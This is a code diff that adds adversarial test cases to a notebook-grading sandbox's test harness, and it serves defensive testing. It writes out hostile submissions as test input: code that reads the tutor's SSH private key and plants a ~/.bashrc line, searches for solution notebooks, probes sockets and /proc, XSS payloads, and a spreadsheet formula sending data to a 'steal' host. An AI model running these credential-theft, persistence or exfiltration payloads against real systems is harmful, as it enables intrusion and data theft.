@@ -19,6 +19,7 @@ import copy
 import functools
 import io
 import json
+import os
 import re
 import uuid
 import zipfile
@@ -77,13 +78,41 @@ CASES: list[Case] = [
     Case("many-processes", "code that starts 500 processes", "graded",
          "process limit hit (BlockingIOError), the processes are killed afterwards: 2 of 2", 2.0, ("limit",)),
     Case("read-gradebook", "code that reads the gradebook and another learner's notebook", "graded",
-         "as root both are hidden (FileNotFoundError) and nothing leaks into the output: 2 of 2", 2.0, ()),
+         "neither exists in the sandbox (FileNotFoundError); nothing leaks; the report names both: 2 of 2", 2.0,
+         ("blocked",)),
+    Case("read-source", "code that walks the file system for the source notebooks (solutions, hidden tests)",
+         "graded", "the sandbox holds no course folder: nothing is found; the report names the attempt: 2 of 2",
+         2.0, ("blocked",)),
+    Case("tutor-home", "code that reads the tutor's SSH key and plants a ~/.bashrc", "graded",
+         "no home folder of the tutor's exists in the sandbox; nothing is read or planted: 2 of 2", 2.0,
+         ("blocked",)),
     Case("write-course", "code that writes into the course folder", "graded",
-         "as root the course is hidden and read-only; nothing is written: 2 of 2", 2.0, ()),
+         "the course is not in the sandbox; nothing is written: 2 of 2", 2.0, ("blocked",)),
     Case("kill-parent", "code that kills its parent process", "graded",
-         "as root it may not (PermissionError); the grader carries on: 2 of 2", 2.0, ()),
+         "its parent is the sandbox's first process, which ignores it; the grader carries on: 2 of 2", 2.0,
+         ("blocked",)),
+    Case("network", "code that connects over TCP and to an abstract Unix socket", "graded",
+         "the sandbox has a network of its own with nothing in it: refused, and reported: 2 of 2", 2.0,
+         ("blocked",)),
+    Case("daemon", "a daemon that outlives its cell and hunts for other kernels through /proc", "graded",
+         "it sees only its own sandbox and is killed when the notebook ends: 2 of 2", 2.0, ("process",)),
     Case("big-file", "a 500 MB file beside the notebook", "graded",
          "the file is left out of the sandbox's copy and reported: 2 of 2", 2.0, ("file",)),
+    Case("symlink-notebook", "the notebook is a symbolic link to another learner's notebook", "not graded",
+         "links are never followed: refused, and the report names the learner", None, ("refused",)),
+    Case("symlink-file", "a symbolic link to the gradebook beside the notebook", "not graded",
+         "links are never followed: refused, and the report names the learner", None, ("refused",)),
+    Case("fifo", "a FIFO (named pipe) beside the notebook", "not graded",
+         "special files are refused; the report names the learner", None, ("refused",)),
+    Case("deeply-nested", "a notebook whose JSON is nested 100,000 levels deep", "not graded",
+         "refused before any tool parses it; everyone else is graded", None, ("refused",)),
+    Case("huge-notebook", "a 60 MB notebook", "not graded",
+         "refused (over the 50 MB notebook limit); everyone else is graded", None, ("refused",)),
+    Case("script-reflection", "a reflection with <script> and HTML event handlers, and HTML output with script",
+         "graded", "the script is removed before formgrader or the feedback can show it: 2 of 2", 2.0,
+         ("blocked",)),
+    Case("formula-reflection", "a reflection that starts with = (a spreadsheet formula)", "graded",
+         "graded as text; in syslead's CSV files it is prefixed with ' so it stays text: 2 of 2", 2.0, ()),
 ]
 
 ZIP_CASE = Case("zip-escape", "a zip for zip_collect whose member names try to leave the target folder",
@@ -243,6 +272,7 @@ def build_case(case_id: str, release_nb: Path, answers: dict[str, str], course_r
     first, second = _answer_cells(nb)[:2]
     gradebook = str(course_root / "gradebook.db")
     other = str(course_root / "submitted" / "ada" / release_nb.parent.name / name)
+    home = os.path.expanduser("~")
     files: dict[str, object] = {name: nb}
     if case_id == "edited-check":
         _checks(nb)[0].source = "assert True"
@@ -291,8 +321,46 @@ def build_case(case_id: str, release_nb: Path, answers: dict[str, str], course_r
         _append(second, f"open({str(course_root / 'planted.txt')!r}, 'w').write('planted')")
     elif case_id == "kill-parent":
         _append(first, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")
+    elif case_id == "read-source":
+        _append(first, f"import glob\nfor p in glob.glob({str(course_root / 'source' / '*' / '*.ipynb')!r}):\n"
+                       "    print(open(p).read()[:3000])")
+        _append(second, f"import os\nprint(os.listdir({str(course_root)!r}))")
+    elif case_id == "tutor-home":
+        _append(first, f"print(open({os.path.join(home, '.ssh', 'id_rsa')!r}).read())")
+        _append(second, f"open({os.path.join(home, '.bashrc')!r}, 'a').write('\\necho planted\\n')")
+    elif case_id == "network":
+        _append(first, "import socket\ntry:\n    socket.create_connection(('127.0.0.1', 22), timeout=3)\n"
+                       "except OSError as e:\n    print('tcp', e)")
+        _append(second, "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n"
+                        "    s.connect('\\0/tmp/.X11-unix/X0')\nexcept OSError as e:\n    print('unix', e)")
+    elif case_id == "daemon":
+        _append(first, "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import glob, os, time\\n"
+                       "while True:\\n    for p in glob.glob(\"/proc/*/root/*\"): pass\\n    time.sleep(0.2)'], "
+                       "start_new_session=True)")
     elif case_id == "big-file":
         files["big.bin"] = ("sparse", big_file_mb << 20)
+    elif case_id == "symlink-notebook":
+        files = {name: ("symlink", other)}
+    elif case_id == "symlink-file":
+        files["gradebook.db"] = ("symlink", gradebook)
+    elif case_id == "fifo":
+        files["pipe"] = ("fifo",)
+    elif case_id == "deeply-nested":
+        text = nbformat.writes(nb)
+        files[name] = (text[:-2] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "\n}").encode()
+    elif case_id == "huge-notebook":
+        files[name] = ("sparse", 60 << 20)
+    elif case_id == "script-reflection":
+        for cell in nb.cells:
+            if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
+                cell.source += ('\n\n<script>fetch("/api/contents")</script><img src=x onerror="alert(1)">'
+                                '[click](javascript:alert(2))')
+        _append(first, "from IPython.display import HTML, Javascript, display\n"
+                       "display(HTML('<b>hi</b><script>alert(3)</script>'))\ndisplay(Javascript('alert(4)'))")
+    elif case_id == "formula-reflection":
+        for cell in nb.cells:
+            if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
+                cell.source = '=HYPERLINK("http://example.invalid/steal?"&A1, "see my work") ' + cell.source
     else:
         raise KeyError(f"unknown case {case_id!r}")
     return files
@@ -307,6 +375,12 @@ def write_files(folder: Path, files: dict[str, object]) -> None:
         elif isinstance(content, tuple) and content[0] == "sparse":
             with open(path, "wb") as f:
                 f.truncate(content[1])  # a hole: counts as its full size, costs no disk until copied
+        elif isinstance(content, tuple) and content[0] == "symlink":
+            path.unlink(missing_ok=True)
+            os.symlink(content[1], path)
+        elif isinstance(content, tuple) and content[0] == "fifo":
+            path.unlink(missing_ok=True)
+            os.mkfifo(path)
         else:
             nbformat.write(content, str(path))
 
@@ -453,6 +527,9 @@ def unusual(root: Path | str, assignment: str, students: list[str] | None = None
     from nbgrader.api import Gradebook, MissingEntry
     from nbgrader.apps import NbGraderAPI
 
+    from syslead.grading.clean import clean_notebook
+    from syslead.grading.submissions import screen
+
     root = Path(root)
     config = course_config(root)
     api = NbGraderAPI(config=config)
@@ -471,6 +548,10 @@ def unusual(root: Path | str, assignment: str, students: list[str] | None = None
                                       if (p / assignment).is_dir()) if submitted_dir.is_dir() else []
         for student in learners:
             folder = submitted_dir / student / assignment
+            problems = screen(folder)
+            if problems:
+                rows += [Row(student, "-", "refused", f"not graded: {p}") for p in problems]
+                continue
             found = sorted(p.name for p in folder.glob("*.ipynb")) if folder.is_dir() else []
             for extra in sorted(set(found) - {f"{n}.ipynb" for n in expected}):
                 rows.append(Row(student, extra, "missing", "unexpected notebook, not graded (wrong name?)"))
@@ -487,6 +568,9 @@ def unusual(root: Path | str, assignment: str, students: list[str] | None = None
                     rows.append(Row(student, fname, "failed", f"{reason}: not graded; ask for it again"))
                     continue
                 rows += _compare(student, fname, nb, sources[name])
+                if clean_notebook(copy.deepcopy(nb)):
+                    rows.append(Row(student, fname, "blocked", "script or unsafe HTML in the notebook was removed; "
+                                                               "formgrader and the feedback show the cleaned copy"))
                 graded = autograded_dir / student / assignment / fname
                 if not graded.is_file():
                     rows.append(Row(student, fname, "failed", "nbgrader could not grade it: see its log"))
